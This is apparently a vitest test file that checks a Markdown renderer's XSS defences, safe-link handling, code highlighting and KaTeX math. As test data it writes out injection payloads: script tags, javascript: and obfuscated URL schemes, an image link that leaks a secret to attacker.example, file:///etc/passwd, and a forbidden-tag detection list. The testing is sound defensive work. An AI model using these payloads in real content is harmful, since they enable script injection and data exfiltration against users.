import { describe, expect, it } from "vitest";
import corpus from "../../tests/xss_corpus.json";
import { isSafeUrl, renderMarkdown, sanitize } from "../markdown.js";
import { all, one } from "./query.js";

/**
 * One case of tests/xss_corpus.json (the Python render tests read it too). A benign case says
 * what its rendering must contain.
 * @typedef {object} Case
 * @property {string} id
 * @property {string} markdown
 * @property {string} note
 * @property {boolean} [benign]
 * @property {{text?: string[], code?: string[], links?: string[], table?: boolean,
 *   math_inline?: string[], math_display?: string[], no_math?: boolean}} [expect]
 */

/** @type {Case[]} */
const cases = corpus;
const attacks = cases.filter((c) => !c.benign);
const benign = cases.filter((c) => c.benign);

const FORBIDDEN_TAGS = [
  "script", "iframe", "frame", "object", "embed", "img", "image", "style", "form", "input",
  "button", "textarea", "select", "link", "meta", "base", "video", "audio", "source", "svg",
  "use", "animate", "set", "foreignobject", "template", "noscript", "details",
];

/** @param {string} markdown */
function render(markdown) {
  const div = document.createElement("div");
  div.innerHTML = renderMarkdown(markdown);
  return div;
}

/**
 * Everything that could run code or load something, found in a rendered tree.
 * @param {Element} root
 */
function dangers(root) {
  const found = [];
  for (const el of root.querySelectorAll("*")) {
    const tag = el.localName.toLowerCase();
    // KaTeX draws some glyphs with inline <svg><path>; those are allowed, nothing else is.
    if (FORBIDDEN_TAGS.includes(tag) && !(tag === "svg" && el.closest(".katex"))) found.push(`<${tag}>`);
    for (const attr of el.attributes) {
      const name = attr.name.toLowerCase();
      const value = attr.value;
      if (name.startsWith("on")) found.push(`${tag}[${name}]`);
      if (["src", "srcdoc", "srcset", "action", "formaction", "poster", "background", "xlink:href", "data"].includes(name)) {
        found.push(`${tag}[${name}]`);
      }
      if (name === "href" && !isSafeUrl(value)) found.push(`${tag}[href=${value}]`);
      if (name === "href" && tag !== "a") found.push(`${tag}[href]`);
      if (name === "style" && /url\s*\(|expression|@import/i.test(value)) found.push(`${tag}[style=${value}]`);
      if (/^\s*(javascript|vbscript|data):/i.test(value)) found.push(`${tag}[${name}=${value}]`);
    }
    if (tag === "a" && el.hasAttribute("href") && !(el.getAttribute("href") || "").startsWith("#")) {
      if (el.getAttribute("rel") !== "noopener noreferrer") found.push("a without rel");
      if (el.getAttribute("target") !== "_blank") found.push("a without target");
    }
  }
  return found;
}

describe("XSS corpus (tests/xss_corpus.json)", () => {
  it("has the shared corpus", () => {
    expect(attacks.length).toBeGreaterThan(50);
    expect(benign.length).toBeGreaterThan(5);
  });

  it.each(attacks.map((c) => [c.id, c]))("%s renders nothing active", (_id, c) => {
    expect(dangers(render(c.markdown))).toEqual([]);
  });

  it("raw HTML from the model is shown as text", () => {
    const div = render("<script>alert(1)</script>");
    expect(div.textContent).toContain("<script>alert(1)</script>");
  });

  it("remote images become links, never images", () => {
    const div = render("![chart](https://attacker.example/leak.png?secret=KEY)");
    expect(div.querySelector("img")).toBeNull();
    const a = one(div, "a.nbc-remote-image");
    expect(a.getAttribute("href")).toBe("https://attacker.example/leak.png?secret=KEY");
    expect(a.textContent).toContain("chart");
  });

  it("relative and protocol-relative links stay text", () => {
    expect(render("[x](/api/shutdown)").querySelector("a")).toBeNull();
    expect(render("[x](//attacker.example/x)").querySelector("a")).toBeNull();
  });

  it("sanitize() is a second line of defence on its own", () => {
    const html = sanitize(
      '<a href="javascript:alert(1)" onclick="x()">a</a><img src="https://x.example/p.png">' +
        '<div style="background:url(https://x.example/)">b</div><a href="https://ok.example">ok</a>',
    );
    const div = document.createElement("div");
    div.innerHTML = html;
    expect(dangers(div)).toEqual([]);
    expect(one(div, 'a[href="https://ok.example"]').getAttribute("rel")).toBe("noopener noreferrer");
  });
});

describe("benign Markdown still renders", () => {
  it.each(benign.map((c) => [c.id, c]))("%s", (_id, c) => {
    const div = render(c.markdown);
    const expectations = c.expect || {};
    const text = div.textContent.replace(/\s+/g, " ");
    for (const t of expectations.text || []) expect(text).toContain(t.replace(/\s+/g, " "));
    for (const code of expectations.code || []) {
      const codes = [...div.querySelectorAll("code")].map((e) => e.textContent);
      expect(codes).toContain(code);
    }
    for (const href of expectations.links || []) {
      const hrefs = [...div.querySelectorAll("a")].map((a) => a.getAttribute("href"));
      expect(hrefs).toContain(href);
    }
    if (expectations.table) expect(div.querySelector("table")).not.toBeNull();
    const tex = (/** @type {string} */ sel) =>
      all(div, sel).filter((e) => e.querySelector(".katex")).map((e) => e.dataset.tex);
    for (const m of expectations.math_inline || []) expect(tex(".nbc-math:not(.nbc-math-display)")).toContain(m);
    for (const m of expectations.math_display || []) expect(tex(".nbc-math-display")).toContain(m);
    if (expectations.no_math) expect(div.querySelector(".nbc-math, .katex")).toBeNull();
    expect(dangers(div)).toEqual([]);
  });
});

describe("Markdown features", () => {
  it("highlights fenced code by language", () => {
    const div = render("```python\ndef f(x):\n    return 'a'\n```");
    const code = one(div, "pre code");
    expect(code.classList.contains("language-python")).toBe(true);
    expect(code.querySelector(".hljs-keyword")).not.toBeNull();
    expect(code.textContent).toBe("def f(x):\n    return 'a'\n");
  });

  it("unknown languages are escaped, not highlighted", () => {
    const div = render("```nosuchlang\n<b>x</b>\n```");
    expect(one(div, "pre code").textContent).toBe("<b>x</b>\n");
    expect(div.querySelector("b")).toBeNull();
  });

  it("renders inline and display math with KaTeX", () => {
    const div = render("Inline $x^2$, \\(y\\), display:\n\n$$\n\\frac{a}{b}\n$$\n\nand \\[z\\]");
    expect(div.querySelectorAll(".katex").length).toBe(4);
    expect(div.querySelectorAll(".katex-display").length).toBe(2);
  });

  it("keeps KaTeX's own SVG drawing (\\sqrt) intact", () => {
    const div = render("$\\sqrt{x^2+1}$");
    const path = one(div, ".katex svg path", SVGElement);
    expect(path).not.toBeNull();
    expect(path.getAttribute("d")?.length).toBeGreaterThan(20);
  });

  it("keeps currency and escaped dollars as text", () => {
    expect(render("It costs $5 and $10.").querySelector(".katex")).toBeNull();
    expect(render("Price: \\$x$ here").querySelector(".katex")).toBeNull();
    expect(render("a $ b $ c").querySelector(".katex")).toBeNull();
  });

  it("follows the Python renderer's currency rule: the first $ after an opening one closes it", () => {
    const div = render("Pay $5 if $x > 1$, else $7.");
    const maths = all(div, ".katex");
    expect(maths).toHaveLength(1);
    expect(one(div, ".nbc-math").getAttribute("data-tex")).toBe("x > 1");
    expect(div.querySelector(".nbc-math-error, .katex-error")).toBeNull();
    expect(div.textContent).toContain("Pay $5 if ");
    expect(div.textContent).toContain(", else $7.");
    // the same cases as nbclaude/_markdown/parser.py: a digit before an opening $ or after a
    // closing one, and a space inside either delimiter, make no maths
    expect(render("It costs 5$ and $x$").querySelectorAll(".katex")).toHaveLength(1);
    expect(render("From $20 to $30 per day").querySelector(".katex")).toBeNull();
    expect(render("$x$5 and $y$").querySelectorAll(".katex")).toHaveLength(1);
    expect(render("$a $b$").querySelectorAll(".katex")).toHaveLength(1);
    expect(one(render("$a $b$"), ".nbc-math").getAttribute("data-tex")).toBe("b");
    expect(render("Both $x$ and $y$.").querySelectorAll(".katex")).toHaveLength(2);
  });

  it("does not trust TeX links", () => {
    const div = render("$\\href{https://ok.example}{x}$");
    expect(div.querySelector("a")).toBeNull();
  });

  it("math inside code stays code", () => {
    const div = render("`$x$` and\n\n```\n$$y$$\n```");
    expect(div.querySelector(".katex")).toBeNull();
    expect(div.textContent).toContain("$x$");
  });

  it("unclosed display math stays text", () => {
    const div = render("$$\na < b");
    expect(div.querySelector(".katex")).toBeNull();
    expect(div.textContent).toContain("a < b");
  });

  it("links open in a new tab without referrer", () => {
    const a = one(render("[docs](https://docs.python.org/)"), "a");
    expect(a.getAttribute("target")).toBe("_blank");
    expect(a.getAttribute("rel")).toBe("noopener noreferrer");
  });

  it("isSafeUrl allows only http(s), mailto and fragments", () => {
    for (const ok of ["https://a.example", "http://a.example/x", "mailto:a@b.c", "#top"]) {
      expect(isSafeUrl(ok)).toBe(true);
    }
    for (const bad of ["javascript:alert(1)", " javascript:x", "java\tscript:x", "data:text/html,x",
      "vbscript:x", "file:///etc/passwd", "/api/shutdown", "//evil.example", "\u0001javascript:x"]) {
      expect(isSafeUrl(bad)).toBe(false);
    }
  });
});
